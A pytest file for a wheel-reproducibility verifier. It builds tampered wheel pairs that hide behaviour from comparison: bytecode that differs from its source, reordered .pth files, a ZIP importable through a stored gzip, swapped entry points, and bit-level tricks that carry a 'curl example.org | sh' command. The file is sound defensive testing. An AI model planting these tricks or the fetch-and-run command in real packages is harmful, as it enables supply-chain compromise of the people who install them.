"""Attacks by somebody who has read the rules on whole members and the engine around them.

Each pair differs in what a rule explains or in what a header field may be, and in nothing else, and
yet the published wheel does something else when it is installed or imported, or carries more bits
that its author chose than any tool needs.
"""

import gzip
import json
import marshal
import os
import struct
import subprocess
import sys
import zipfile
import zlib
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass
from importlib.util import MAGIC_NUMBER
from io import BytesIO
from pathlib import Path

import pytest

from tests.support.bytecode import SOURCE, header, marshalled
from tests.support.leftovers import FINDER_STORE, PATH_FILES
from tests.support.wheels import (
    DIST_INFO,
    RECORD,
    Entry,
    changed,
    deflate,
    entries,
    honest_files,
    pack,
    record_row,
    wheel_file,
    with_record,
    write,
)
from verify.compare.engine import compare
from verify.results import Diff
from verify.verdict import Verdict

TRUSTED = {Verdict.IDENTICAL, Verdict.REGENERATED, Verdict.EQUIVALENT}
DATA = "example-1.0.data"
POINTS = f"{DIST_INFO}/entry_points.txt"
TOP_LEVEL = f"{DIST_INFO}/top_level.txt"
JSON = f"{DIST_INFO}/pbr.json"
NAMESPACES = f"{DIST_INFO}/namespace_packages.txt"
WHEEL = f"{DIST_INFO}/WHEEL"

Files = Mapping[str, bytes]
Headers = Mapping[str, Mapping[str, object]]
Pair = tuple[bytes, bytes]


def _wheel(
    files: Files, headers: Headers | None = None, directories: Iterable[str] = ()
) -> list[Entry]:
    """The honest members and these, with fields of some entries replaced, directories first."""
    base = entries(with_record(honest_files(files)))
    for name, fields in (headers or {}).items():
        base = changed(name, fields, base)
    return [*(Entry(name=name, method=0, mode=0o40755) for name in directories), *base]


def _pair(ours: Files, theirs: Files, both: Files | None = None, **headers: Headers) -> Pair:
    """Members of the published wheel, of the rebuilt one and of both.

    `ours_headers` and `both_headers` replace fields of entries.
    """
    common, shared = both or {}, headers.get("both_headers", {})
    own = {**shared, **headers.get("ours_headers", {})}
    return pack(_wheel({**common, **ours}, own)), pack(_wheel({**common, **theirs}, shared))


def _moded(name: str, ours: int, theirs: int) -> Pair:
    """One member of both wheels whose mode differs."""
    base = _wheel({name: b"#!python\nprint('tool')\n"})
    return pack(changed(name, {"mode": ours}, base)), pack(changed(name, {"mode": theirs}, base))


def _compare(tmp_path: Path, pair: Pair) -> Diff:
    return compare(write(tmp_path / "p", pair[0]), write(tmp_path / "r", pair[1]))


def _python(code: str, *arguments: Path | str) -> str:
    """What a fresh interpreter prints, which has nothing but its standard library."""
    return subprocess.run(
        [sys.executable, "-I", "-S", "-c", code, *arguments],
        env={"TZ": "UTC"},
        capture_output=True,
        text=True,
        check=True,
        timeout=60,
    ).stdout.strip()


def _unpacked(tmp_path: Path, pair: Pair) -> list[Path]:
    """Both wheels as a directory of installed packages, published first."""
    places = []
    for at, data in enumerate(pair):
        place = tmp_path / str(at)
        zipfile.ZipFile(BytesIO(data)).extractall(place)
        places.append(place)
    return places


# What runs ----------------------------------------------------------------------------------------

WORDS = {"words/extra.py": b"ANSWER = 666\n"}


def _namespace(*, published: bool) -> Pair:
    """A directory of modules that is no package; one wheel has an entry for it."""
    with_entry, without = pack(_wheel(WORDS, directories=["words/"])), pack(_wheel(WORDS))
    return (with_entry, without) if published else (without, with_entry)


EGG_INFO = {
    "example-1.0.egg-info/PKG-INFO": b"Metadata-Version: 2.1\nName: example\nVersion: 1.0\n",
    "example-1.0.egg-info/entry_points.txt": b"[example.plugins]\nx = os:abort\n",
}


def _metadata_order() -> Pair:
    """Two directories of metadata, in both wheels; the order of the members differs."""
    base = _wheel(EGG_INFO)
    ours = sorted(base, key=lambda entry: ".egg-info/" not in str(entry.name))
    theirs = sorted(base, key=lambda entry: ".egg-info/" in str(entry.name))
    return pack(ours), pack(theirs)


def _metadata_directory() -> Pair:
    """The same, where the published wheel has an entry for one of them before all others."""
    base = sorted(_wheel(EGG_INFO), key=lambda entry: ".egg-info/" in str(entry.name))
    first = Entry(name="example-1.0.egg-info/", method=0, mode=0o40755)
    return pack([first, *base]), pack(base)


LINE = PATH_FILES["69.1.0"].encode()
BETWEEN = {
    "example-1.0-py3.10.pth": b"import sys; sys.example = 'google' in sys.modules\n",
}


def _path_file_order() -> Pair:
    """The file that is renamed runs after another path file; before it, it runs in the rebuild."""
    return _pair(
        {"example-1.0-py3.12-nspkg.pth": LINE}, {"example-1.0-py3.1-nspkg.pth": LINE}, BETWEEN
    )


def _stored_zip(name: bytes, data: bytes, *, local_name: bytes) -> bytes:
    """A ZIP file with eight bytes of comment to come; its local header has a name of its own."""
    crc = zlib.crc32(data)
    sizes = (crc, len(data), len(data))
    local = struct.pack("<4sHHHHHLLLHH", b"PK\3\4", 20, 0, 0, 0, 0x21, *sizes, len(name), 0)
    local += local_name + data
    central = struct.pack(
        "<4sBBHHHHHLLLHHHHHLL",
        *(b"PK\1\2", 20, 3, 20, 0, 0, 0, 0x21, *sizes, len(name), 0, 0, 0, 0, 0, 0),
    )
    central += name
    end = struct.pack("<4sHHHHLLH", b"PK\5\6", 0, 0, 1, 1, len(central), len(local), 8)
    return local + central + end


def _gzip(stream: bytes, plain: bytes, *, time: int = 0) -> bytes:
    head = b"\x1f\x8b\x08\0" + struct.pack("<L", time) + b"\2\xff"
    return head + stream + struct.pack("<2L", zlib.crc32(plain), len(plain))


def _zip_in_gzip(*, local_name: bytes) -> Pair:
    code = b"ANSWER = 666\n" + b"# enough to pack well\n" * 9
    content = _stored_zip(b"_fast.py", code, local_name=local_name)
    return _pair(
        {"example/data.gz": _gzip(deflate(content, 0), content)},
        {"example/data.gz": _gzip(deflate(content, 9), content)},
        {"example.pth": b"example/data.gz\n"},
    )


ZIP_IN_GZIP = _zip_in_gzip(local_name=b"________")
"""Stored, the content of the gzip file is a ZIP file as it is: `zipimport` does not mind what is
before it, and the trailer of the gzip file is its comment."""

NOW = 1_704_067_200
NEW_YEAR = {"date": (44 << 9) | (1 << 5) | 1, "time": 0}
PYTHON = (3, 11)


def _pyc(code: str, source: bytes, *, time: int) -> bytes:
    """Bytecode of this interpreter, which says that it is of a source of this time."""
    fields = struct.pack("<LLL", 0, time, len(source))
    return MAGIC_NUMBER + fields + marshal.dumps(compile(code, "example/mod.py", "exec"))


MOD = b"ANSWER = 42\n"
STALE = _pair(
    {"example/mod.pyc": _pyc("ANSWER = 666", MOD, time=NOW - 86_400)},
    {"example/mod.pyc": _pyc("ANSWER = 666", MOD, time=NOW)},
    {"example/mod.py": MOD},
    both_headers={"example/mod.py": NEW_YEAR},
)
"""A source tree with bytecode of another program, which runs in the rebuild only."""

PROGRAMS = b"[console_scripts]\ntool = p.a:main\ntool.py = p.b:main\n"
SWAPPED_PROGRAMS = b"[console_scripts]\ntool.py = p.b:main\ntool = p.a:main\n"
GROUPS = b"[console_scripts]\na = example.core:answer\n\n[p.plugins]\na = os:abort\n"
SWAPPED_GROUPS = b"[p.plugins]\na = os:abort\n\n[console_scripts]\na = example.core:answer\n"

DECLARED = b"__import__('pkg_resources').declare_namespace(__name__)\n"
EXTENSION = "space/__init__.cpython-311-x86_64-linux-gnu.so"
CACHED_INIT = f"space/__pycache__/__init__.{sys.implementation.cache_tag}.pyc"


def _unchecked(source: str) -> bytes:
    """Bytecode that runs whatever its source is (PEP 552)."""
    code = marshal.dumps(compile(source, "space/__init__.py", "exec"))
    return MAGIC_NUMBER + struct.pack("<LQ", 1, 0) + code


def _namespace_packages(beside: Files) -> Pair:
    return _pair({NAMESPACES: b"space\n"}, {}, {"space/__init__.py": DECLARED, **beside})


FLAG = b"if date > '2030':\n    print('on')\n"


RUNS: dict[str, Pair] = {
    # CPython up to 3.12: `zipimport` finds a namespace package by the entry for its directory.
    "namespace-package-in-a-zip": _namespace(published=True),
    "namespace-package-gone-from-a-zip": _namespace(published=False),
    # `importlib.metadata` takes the first directory of a project in the order of the archive, and
    # in that of the directory, which follows it on some file systems.
    "metadata-found-first": _metadata_order(),
    "metadata-directory-found-first": _metadata_directory(),
    "namespace-package-of-stray-files": (
        pack(_wheel({"new/.gitkeep": b""}, directories=["new/"])),
        pack(_wheel({"new/.DS_Store": FINDER_STORE})),
    ),
    # `site` goes through path files in the order of their names.
    "path-file-between-the-two-names": _path_file_order(),
    "zip-in-a-stored-gzip": ZIP_IN_GZIP,
    "bytecode-that-runs-in-the-rebuild-only": STALE,
    # On Windows, pip (distlib) and uv make `tool.exe` of `tool` and of `tool.py`.
    "programs-that-windows-merges": _pair({POINTS: SWAPPED_PROGRAMS}, {POINTS: PROGRAMS}),
    # `EntryPoints["a"]` is the first of this name in any group.
    "name-in-two-groups": _pair({POINTS: SWAPPED_GROUPS}, {POINTS: GROUPS}),
    # pip and installer make a script executable if its mode says so.
    "script-that-becomes-a-program": _moded(f"{DATA}/scripts/ls", 0o100755, 0o100644),
    "script-that-is-no-program": _moded(f"{DATA}/scripts/ls", 0o100644, 0o100755),
    # `Wheel.install_as_egg` of setuptools (`setup_requires`) sets modes as they are.
    "module-that-nobody-may-read": _moded("example/tool.py", 0o100000, 0o100644),
    # The package declares nothing: this `__init__.py` is not what is imported.
    "namespace-of-an-extension-module": _namespace_packages({EXTENSION: b"\x7fELF"}),
    "namespace-of-unchecked-bytecode": _namespace_packages(
        {CACHED_INIT: _unchecked("ANSWER = 42")}
    ),
    "namespace-and-line-ends": _pair(
        {NAMESPACES: b"space\n", "space/__init__.py": DECLARED.replace(b"\n", b"\r\n")},
        {"space/__init__.py": DECLARED},
    ),
    # A shell reads the first lines of such a file, and minds the line ends.
    "line-ends-of-a-shell-script": _pair(
        {"example/run.py": b"#!/bin/sh\r\n''':'\r\nexec python\r\n'''\r\n"},
        {"example/run.py": b"#!/bin/sh\n''':'\nexec python\n'''\n"},
    ),
    "date-that-is-compared": _pair(
        {"example/_version.py": b"date = '2031-01-01'\n" + FLAG},
        {"example/_version.py": b"date = '2024-01-01'\n" + FLAG},
    ),
}

# What meets two rules, or one in another place ----------------------------------------------------

UTF8 = {"flags": 0x800}
TEXT = b"Do as you like.\nOr not.\n"
LICENSE = f"{DIST_INFO}/LICENSE"
NESTED = f"{DIST_INFO}/licenses/LICENSE"


def _dos(text: bytes) -> bytes:
    return text.replace(b"\n", b"\r\n")


def _record(change: tuple[bytes, bytes]) -> Pair:
    """A RECORD of the published wheel that is written otherwise."""
    files = with_record(honest_files())
    assert change[0] in files[RECORD]
    ours = {**files, RECORD: files[RECORD].replace(*change)}
    return pack(entries(ours)), pack(entries(files))


def _one_sided(name: str, data: bytes, *rows: str) -> Pair:
    """A member of the published wheel, with rows of RECORD in place of its own."""
    files = with_record(honest_files())
    record = files[RECORD] + "".join(f"{row}\n" for row in rows).encode()
    return pack(entries({**files, name: data, RECORD: record})), pack(entries(files))


COMBINED: dict[str, Pair] = {
    "license-moved-with-other-line-ends": _pair({NESTED: _dos(TEXT)}, {LICENSE: TEXT}),
    "license-moved-onto-a-twin": _pair(
        {f"{DIST_INFO}/LICENSE.txt": TEXT},
        {f"{DIST_INFO}/licenses/LICENSE.txt": TEXT},
        {f"{DIST_INFO}/License.txt": b"other\n"},
    ),
    "license-with-a-script-before-it": _pair({NESTED: b"#!/bin/sh\n" + TEXT}, {LICENSE: TEXT}),
    "license-in-the-place-of-a-rebuilt-file": _pair(
        {NESTED: TEXT}, {LICENSE: TEXT, NESTED: b"other\n"}
    ),
    "line-ends-and-date": _pair(
        {"example/_version.py": b"date = '2024-01-02'\r\n"},
        {"example/_version.py": b"date = '2024-01-01'\n"},
    ),
    "line-ends-of-source-with-rebuilt-bytecode": _pair(
        {"example/mod.py": _dos(MOD)},
        {"example/mod.py": MOD, "example/__pycache__/mod.cpython-311.pyc": b"x"},
    ),
    "line-ends-of-source-with-optimized-bytecode": _pair(
        {"example/mod.py": _dos(MOD)}, {"example/mod.py": MOD}, {"example/mod.pyo": b"x"}
    ),
    "line-ends-of-source-with-bytecode-in-other-case": _pair(
        {"example/mod.py": _dos(MOD)}, {"example/mod.py": MOD}, {"example/MOD.PYC": b"x"}
    ),
    "line-ends-of-source-with-bytecode-in-data": _pair(
        {"example/mod.py": _dos(MOD)},
        {"example/mod.py": MOD},
        {f"{DATA}/data/lib/python3.11/site-packages/example/mod.pyc": b"x"},
    ),
    "date-of-source-with-bytecode-in-other-case": _pair(
        {"example/_version.py": b"date = '2024-01-02'\n"},
        {"example/_version.py": b"date = '2024-01-01'\n"},
        {"example/__PYCACHE__/_VERSION.cpython-311.pyc": b"x"},
    ),
    "program-in-the-place-of-a-stray-file": _pair(
        {"example/thumbs.db": b"MZ"},
        {"example/Thumbs.db": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"},
    ),
    "stray-file-where-a-directory-is-decomposed": _pair(
        {"e\u0301/.gitkeep": b""},
        {},
        {"\u00e9/x.txt": b"", "e\u0301/x.txt": b""},
        both_headers=dict.fromkeys(("é/x.txt", "é/x.txt"), UTF8),
        ours_headers={"e\u0301/.gitkeep": UTF8},
    ),
    "stray-file-beside-licenses": _pair(
        {f"{DIST_INFO}/licenses/.gitkeep": b""}, {}, {f"{DIST_INFO}/licenses/x": b""}
    ),
    "stray-file-that-record-leaves-out": _one_sided("example/.gitkeep", b""),
    "stray-file-of-another-size-in-record": _one_sided(
        "example/.gitkeep",
        b"",
        "example/.gitkeep,sha256=47DEQpj8HBSa-_TImW-5JCeuQeRkm5NMpJWZG3hSuFU,1",
    ),
    "record-that-quotes-a-row": _record((b"example/core.py", b'"example/core.py"')),
    "record-with-other-line-ends": _record((b"\n", b"\r\n")),
    "record-with-a-last-empty-line": _record(
        (f"{RECORD},,\n".encode(), f"{RECORD},,\n\n".encode())
    ),
    "record-with-a-signature": _record(
        (f"{RECORD},,\n".encode(), f"{RECORD},,\n{RECORD}.jws,,\n".encode())
    ),
    "directory-in-record": (
        pack(
            [
                Entry(name="example/", method=0, mode=0o40755),
                *entries(
                    with_record(
                        honest_files(),
                        [
                            *with_record(honest_files())[RECORD].decode().splitlines(),
                            record_row("example/", b""),
                        ],
                    )
                ),
            ]
        ),
        pack(entries()),
    ),
    "directory-of-a-file": (
        pack([Entry(name="example/core.py/", method=0, mode=0o40755), *entries()]),
        pack(entries()),
    ),
    "directory-twice": (
        pack([*[Entry(name="example/", method=0, mode=0o40755)] * 2, *entries()]),
        pack(entries()),
    ),
    "directory-that-is-executable-data": (
        pack([Entry(name="example/", method=0, mode=0o40755, data=b"x"), *entries()]),
        pack(entries()),
    ),
    "directory-in-a-directory-of-stray-files-only": (
        pack(_wheel({"new/.gitkeep": b""}, directories=["new/sub/"])),
        pack(_wheel({"new/.DS_Store": FINDER_STORE})),
    ),
    "name-without-the-flag-of-its-encoding": _pair(
        {},
        {},
        {"example/\u00fc.txt": b"x"},
        both_headers={"example/\u00fc.txt": UTF8},
        ours_headers={"example/\u00fc.txt": {"flags": 0}},
    ),
    "too-large-for-the-rule-on-line-ends": _pair(
        {"example/mod.py": _dos(MOD * 100_000)}, {"example/mod.py": MOD * 100_000}
    ),
    "too-large-for-the-rule-on-gzip": _pair(
        {"example/x.gz": gzip.compress(os.urandom(2**20), mtime=1)},
        {"example/x.gz": gzip.compress(b"", mtime=0)},
    ),
    "too-large-for-the-rule-on-licenses": _pair(
        {NESTED: TEXT * 60_000}, {LICENSE: TEXT * 60_000 + b"x"}
    ),
    "bytecode-of-a-hash-that-is-checked-no-more": _pair(
        {"example/__pycache__/mod.cpython-311.pyc": header(PYTHON, flags=1) + b"x"},
        {"example/__pycache__/mod.cpython-311.pyc": header(PYTHON, flags=3) + b"x"},
        {"example/mod.py": MOD},
    ),
    "bytecode-only-published-beside-rebuilt-bytecode": _pair(
        {"example/mod.pyc": _pyc("ANSWER = 666", MOD, time=NOW)},
        {"example/__pycache__/mod.cpython-311.pyc": _pyc("ANSWER = 666", MOD, time=NOW)},
        {"example/mod.py": MOD},
    ),
    "zip-of-named-code-in-a-stored-gzip": _zip_in_gzip(local_name=b"_fast.py"),
    "top-level-of-a-twin": _pair({TOP_LEVEL: b"Example\n"}, {TOP_LEVEL: b"example\n"}),
    "top-level-of-a-data-file": _pair({TOP_LEVEL: b"example\nx\n"}, {}, {f"{DATA}/data/x.py": b""}),
    "generator-and-line-ends": _pair({WHEEL: _dos(wheel_file("flit 3.9.0"))}, {}),
    "path-file-in-other-case": _pair(
        {"example-1.0-py3.12-nspkg.PTH": LINE}, {"example-1.0-py3.1-nspkg.pth": LINE}
    ),
    "gzip-of-a-program": _pair(
        {f"{DATA}/data/bin/x.gz": gzip.compress(MOD, mtime=1)},
        {f"{DATA}/data/bin/x.gz": gzip.compress(MOD, mtime=0)},
        ours_headers={f"{DATA}/data/bin/x.gz": {"mode": 0o100755}},
    ),
    "gzip-of-a-program-made-on-unix": _pair(
        {f"{DATA}/data/bin/x.gz": gzip.compress(MOD, mtime=1)},
        {f"{DATA}/data/bin/x.gz": gzip.compress(MOD, mtime=0)},
        both_headers={f"{DATA}/data/bin/x.gz": {"mode": 0o100755, "system": 0}},
        ours_headers={f"{DATA}/data/bin/x.gz": {"mode": 0o100755, "system": 3}},
    ),
}

# What carries bits --------------------------------------------------------------------------------

MESSAGE = b"import os; os.system('curl example.org | sh') # 64 bytes and more."
BITS = [byte >> at & 1 for byte in MESSAGE for at in range(8)]


def _chosen(names: Sequence[str], zero: bytes, one: bytes) -> Pair:
    """One bit in each file."""
    ours = {name: (zero, one)[bit] for name, bit in zip(names, BITS, strict=True)}
    return _pair(ours, dict.fromkeys(names, zero))


def _present(names: Sequence[str], data: bytes, both: Files) -> Pair:
    """One bit in each file that is there or not."""
    return _pair({name: data for name, bit in zip(names, BITS, strict=True) if bit}, {}, both)


def _permuted(items: Sequence[str]) -> list[str]:
    """The items in an order that says what the message is."""
    number, left, found = int.from_bytes(MESSAGE, "big"), list(items), []
    while left:
        number, at = divmod(number, len(left))
        found.append(left.pop(at))
    assert not number
    return found


def _listed(names: Iterable[str]) -> bytes:
    return "".join(f"{name}\n" for name in names).encode()


def _record_order() -> Pair:
    files = honest_files({f"example/m{at:03}.txt": b"" for at in range(150)})
    rows = with_record(files)[RECORD].decode().splitlines()
    return pack(entries(with_record(files, _permuted(rows)))), pack(entries(with_record(files)))


def _spelled(bits: Iterable[int]) -> bytes:
    """A deflate stream of as many runs of three `a`, where each is one match or three literals."""
    # The fixed code (RFC 1951, section 3.2.6): 0x91 for `a`, 257 for three, distance code 0.
    one, three = f"{0x30 + ord('a'):08b}", f"{257 - 256:07b}" + "00000"
    text = "1" + "10" + one + "".join(three if bit else one * 3 for bit in bits) + "0" * 7
    text += "0" * (-len(text) % 8)
    return bytes(int(text[at : at + 8][::-1], 2) for at in range(0, len(text), 8))


RUN = b"a" * (3 * len(BITS) + 1)
CACHED = "example/__pycache__/mod.cpython-311.pyc"
PATH = "/" + MESSAGE.hex() + "/example/mod.py"
NUMBERS = [int.from_bytes(MESSAGE[at : at + 4], "big") for at in range(0, 64, 4)]


def _timed(numbers: Iterable[int]) -> Files:
    """Bytecode of many sources, each of its own time."""
    body = marshalled(PYTHON, "/project/example/mod.py")
    return {
        f"m{at}/__pycache__/mod.cpython-311.pyc": header(PYTHON, time=number) + body
        for at, number in enumerate(numbers)
    }


TIMED_SOURCES = [f"m{at}/mod.py" for at in range(len(NUMBERS))]


def _version_files(moments: Iterable[str]) -> Files:
    return {
        f"p{at}/_version.py": f"date = '{moment}'\n".encode() for at, moment in enumerate(moments)
    }


MOMENTS = [
    f"20{number >> 26:02}-{(number >> 22 & 15) % 12 + 1:02}-01T00:00:00.{number & 0x7FFFF:06}"
    for number in NUMBERS
]
POINT_NAMES = [f"p{at:03}" for at in range(150)]


def _points(names: Iterable[str]) -> bytes:
    return b"[console_scripts]\n" + _listed(f"{name} = example.core:answer" for name in names)


def _groups(names: Iterable[str]) -> bytes:
    return "".join(f"[{name}]\n{name} = example.core\n" for name in names).encode()


LICENSE_PLACES = [f"d{at}" for at in range(256)]
LICENSE_NAMES = [f"LICENSE-{at:02}" for at in range(64)]

CARRIED: dict[str, Pair] = {
    "stray-files": _present(
        [f"d{at}/.gitkeep" for at in range(len(BITS))],
        b"",
        {f"d{at}/x.txt": b"" for at in range(len(BITS))},
    ),
    "places-of-licenses": _pair(
        {
            f"{DIST_INFO}/licenses/{LICENSE_PLACES[byte]}/{name}": name.encode()
            for name, byte in zip(LICENSE_NAMES, MESSAGE, strict=False)
        },
        {f"{DIST_INFO}/{name}": name.encode() for name in LICENSE_NAMES},
        {f"{place}/x.txt": b"" for place in LICENSE_PLACES},
    ),
    "matches-of-a-gzip-file": _pair(
        {"example/x.gz": _gzip(_spelled(BITS), RUN)}, {"example/x.gz": _gzip(deflate(RUN), RUN)}
    ),
    "path-of-bytecode": _pair(
        {CACHED: header(PYTHON) + marshalled(PYTHON, PATH)},
        {CACHED: header(PYTHON) + marshalled(PYTHON, "/project/example/mod.py")},
        {"example/mod.py": SOURCE},
    ),
    "dates-of-version-files": _pair(
        _version_files(MOMENTS),
        _version_files("2024-01-01T00:00:00.000000" for _ in MOMENTS),
    ),
    "version-of-the-generator": _pair(
        {WHEEL: wheel_file("bdist_wheel (0.4183920571648302957164)")}, {}
    ),
}


# What stays free ----------------------------------------------------------------------------------


@dataclass(frozen=True, kw_only=True)
class Freedom:
    """What docs/rules.md says is free, all of it used.

    Attributes:
        verdict: no better than this one.
        rule: what tells of it.
        members: those that carry something, each told by a finding of its own or counted together.
        fields: those of the note on what was recorded.
    """

    pair: Pair
    verdict: Verdict
    rule: str
    members: tuple[str, ...] = ()
    fields: tuple[str, ...] = ()


def _free(rule: str, pair: Pair, *members: str) -> Freedom:
    return Freedom(pair=pair, verdict=Verdict.EQUIVALENT, rule=rule, members=members)


def _free_field(pair: Pair, *fields: str) -> Freedom:
    return Freedom(
        pair=pair, verdict=Verdict.REGENERATED, rule="container.recorded-fields", fields=fields
    )


MODULES = [f"example/m{at}.py" for at in range(len(BITS))]
LICENSES = [f"{DIST_INFO}/LICENSE-{at}" for at in range(len(BITS))]
GZIPS = [f"example/{at}.gz" for at in range(len(NUMBERS))]
STRAYS = [f"d{at}/.gitkeep" for at in range(16)]
EARLIER = [f"{1990 + number % 34}-{number // 34 % 12 + 1:02}-01" for number in NUMBERS]


def _json(names: Iterable[str]) -> bytes:
    return json.dumps(dict.fromkeys(names, 0)).encode()


def _ones(names: Sequence[str]) -> list[str]:
    return [name for name, bit in zip(names, BITS, strict=False) if bit]


FREE: dict[str, Freedom] = {
    "line-ends-of-modules": _free(
        "source-line-ends", _chosen(MODULES, MOD, _dos(MOD)), *_ones(MODULES)
    ),
    "line-ends-of-licenses": _free(
        "text-line-ends", _chosen(LICENSES, TEXT, _dos(TEXT)), *_ones(LICENSES)
    ),
    "order-of-record": _free("record-follows", _record_order(), RECORD),
    "order-of-top-level": _free(
        "top-level-derived",
        _pair({TOP_LEVEL: _listed(_permuted(POINT_NAMES))}, {TOP_LEVEL: _listed(POINT_NAMES)}),
        TOP_LEVEL,
    ),
    "order-of-namespace-packages": _free(
        "namespace-packages-derived",
        _pair(
            {NAMESPACES: _listed(reversed(POINT_NAMES[:64]))},
            {NAMESPACES: _listed(POINT_NAMES[:64])},
        ),
        NAMESPACES,
    ),
    "order-of-json-keys": _free(
        "json-key-order",
        _pair({JSON: _json(_permuted(POINT_NAMES))}, {JSON: _json(POINT_NAMES)}),
        JSON,
    ),
    "order-of-programs": _free(
        "entry-points-layout",
        _pair({POINTS: _points(_permuted(POINT_NAMES))}, {POINTS: _points(POINT_NAMES)}),
        POINTS,
    ),
    "order-of-groups": _free(
        "entry-points-layout",
        _pair({POINTS: _groups(_permuted(POINT_NAMES))}, {POINTS: _groups(POINT_NAMES)}),
        POINTS,
    ),
    "times-of-gzip-files": _free(
        "gzip-header",
        _pair(
            {
                name: _gzip(deflate(MOD), MOD, time=number)
                for name, number in zip(GZIPS, NUMBERS, strict=True)
            },
            dict.fromkeys(GZIPS, _gzip(deflate(MOD), MOD)),
        ),
        *GZIPS,
    ),
    "times-of-bytecode": _free(
        "bytecode-recompiled",
        _pair(
            _timed(NUMBERS),
            _timed([NOW] * len(NUMBERS)),
            dict.fromkeys(TIMED_SOURCES, SOURCE),
            both_headers=dict.fromkeys(TIMED_SOURCES, NEW_YEAR),
        ),
        *_timed(NUMBERS),
    ),
    "path-of-bytecode": _free(
        "bytecode-recompiled",
        _pair(
            {CACHED: header(PYTHON) + marshalled(PYTHON, f"/{'x' * 62}/example/mod.py")},
            {CACHED: header(PYTHON) + marshalled(PYTHON, "/project/example/mod.py")},
            {"example/mod.py": SOURCE},
        ),
        CACHED,
    ),
    "earlier-dates-of-version-files": _free(
        "build-date",
        _pair(_version_files(EARLIER), _version_files("2024-01-01" for _ in EARLIER)),
        *_version_files(EARLIER),
    ),
    "stray-files": _free(
        "stray-file",
        _pair(
            dict.fromkeys(_ones(STRAYS), b""),
            {},
            {f"d{at}/x.txt": b"" for at in range(len(STRAYS))},
        ),
        *_ones(STRAYS),
    ),
    "tool-of-a-package-that-is-no-program": _free_field(
        _moded("example/bin/tool", 0o100644, 0o100755), "external_attr", "executable"
    ),
    "module-that-everybody-may-write": _free_field(
        _moded("example/tool.py", 0o100666, 0o100644), "external_attr"
    ),
}


def _told(diff: Diff, rule: str) -> tuple[set[str], int]:
    """The members that findings of a rule name, and how many more they count."""
    found = [finding for finding in diff.findings if finding.rule == rule]
    more = (f.evidence["count"] for f in found if f.member is None and "count" in f.evidence)
    return {f.member for f in found if f.member}, sum(n for n in more if isinstance(n, int))


@pytest.mark.parametrize("freedom", FREE)
def test_documented_freedoms_are_told(freedom: str, tmp_path: Path) -> None:
    free = FREE[freedom]
    diff = _compare(tmp_path, free.pair)
    assert diff.verdict is free.verdict, diff.findings
    members, more = _told(diff, free.rule)
    assert members <= set(free.members)
    assert len(members) + more == len(free.members)
    evidence = [finding.evidence for finding in diff.findings if finding.rule == free.rule]
    assert evidence
    if free.fields:
        assert set(evidence[0]) == set(free.fields)


def test_one_stray_file_too_many_is_not_explained(tmp_path: Path) -> None:
    names = [f"d{at}/.gitkeep" for at in range(17)]
    both = {f"d{at}/x.txt": b"" for at in range(17)}
    assert _compare(tmp_path, _pair(dict.fromkeys(names, b""), {}, both)).verdict not in TRUSTED
    fewer = _pair(dict.fromkeys(names[:16], b""), {}, both)
    assert _compare(tmp_path, fewer).verdict is Verdict.EQUIVALENT


def test_date_may_be_two_days_later_at_most(tmp_path: Path) -> None:
    for day, is_explained in ((2, True), (3, True), (4, False)):
        pair = _pair(_version_files([f"2024-01-{day:02}"]), _version_files(["2024-01-01"]))
        assert (_compare(tmp_path, pair).verdict in TRUSTED) is is_explained


def test_path_of_bytecode_has_64_characters_before_that_of_the_source_at_most(
    tmp_path: Path,
) -> None:
    ours = header(PYTHON) + marshalled(PYTHON, f"/{'x' * 63}/example/mod.py")
    theirs = header(PYTHON) + marshalled(PYTHON, "/project/example/mod.py")
    pair = _pair({CACHED: ours}, {CACHED: theirs}, {"example/mod.py": SOURCE})
    assert _compare(tmp_path, pair).verdict not in TRUSTED


@pytest.mark.parametrize("attack", RUNS)
def test_published_wheel_that_does_something_else_is_not_trusted(
    attack: str, tmp_path: Path
) -> None:
    diff = _compare(tmp_path, RUNS[attack])
    assert diff.verdict not in TRUSTED, diff.findings


@pytest.mark.parametrize("attack", COMBINED)
def test_rules_explain_no_more_together_than_each_alone(attack: str, tmp_path: Path) -> None:
    diff = _compare(tmp_path, COMBINED[attack])
    assert diff.verdict not in TRUSTED, diff.findings


@pytest.mark.parametrize("attack", CARRIED)
def test_rules_leave_no_room_for_a_message(attack: str, tmp_path: Path) -> None:
    diff = _compare(tmp_path, CARRIED[attack])
    assert diff.verdict not in TRUSTED, diff.findings


# The attacks are only worth something if they have an effect --------------------------------------

IMPORT = "import sys; sys.path.insert(0, sys.argv[1]); import {0}; print({0}.ANSWER)"
METADATA = """\
import importlib.metadata, sys
sys.path.insert(0, sys.argv[1])
found = importlib.metadata.distribution("example").entry_points
"""
GROUP_OF_ALL = METADATA + "print(*{entry.group for entry in found})"
NAMED = METADATA + "print(found['a'].value)"
START = "import site, sys; site.addsitedir(sys.argv[1]); "

FROM_THE_ARCHIVE: dict[str, tuple[str, list[str]]] = {
    # Run on the wheel itself, which is put on the path.
    "bytecode-that-runs-in-the-rebuild-only": (IMPORT.format("example.mod"), ["42", "666"]),
    "metadata-found-first": (GROUP_OF_ALL, ["example.plugins", "console_scripts"]),
    "metadata-directory-found-first": (GROUP_OF_ALL, ["example.plugins", "console_scripts"]),
    "name-in-two-groups": (NAMED, ["os:abort", "example.core:answer"]),
}


@pytest.mark.parametrize("attack", FROM_THE_ARCHIVE)
def test_what_python_does_with_each_archive_differs(attack: str, tmp_path: Path) -> None:
    code, expected = FROM_THE_ARCHIVE[attack]
    wheels = [write(tmp_path / str(at), data) for at, data in enumerate(RUNS[attack])]
    assert [_python(code, wheel) for wheel in wheels] == expected


def test_path_files_run_in_another_order(tmp_path: Path) -> None:
    code = START + "print(sys.example)"
    places = _unpacked(tmp_path, RUNS["path-file-between-the-two-names"])
    for place in places:
        (place / "google").mkdir()
    assert [_python(code, place) for place in places] == ["False", "True"]


def test_stored_gzip_file_is_imported_from(tmp_path: Path) -> None:
    code = START + "import importlib.util; print(importlib.util.find_spec('_fast') is not None)"
    places = _unpacked(tmp_path, ZIP_IN_GZIP)
    assert [_python(code, place) for place in places] == ["True", "False"]


def test_gzip_file_with_a_message_is_one() -> None:
    assert zlib.decompress(_spelled(BITS), -15) == RUN


def test_bytecode_hides_that_a_package_declares_nothing(tmp_path: Path) -> None:
    code = "import sys; sys.path.insert(0, sys.argv[1]); import space; print(space.ANSWER)"
    places = _unpacked(tmp_path, RUNS["namespace-of-unchecked-bytecode"])
    # It would import pkg_resources otherwise, which is not there.
    assert [_python(code, place) for place in places] == ["42", "42"]
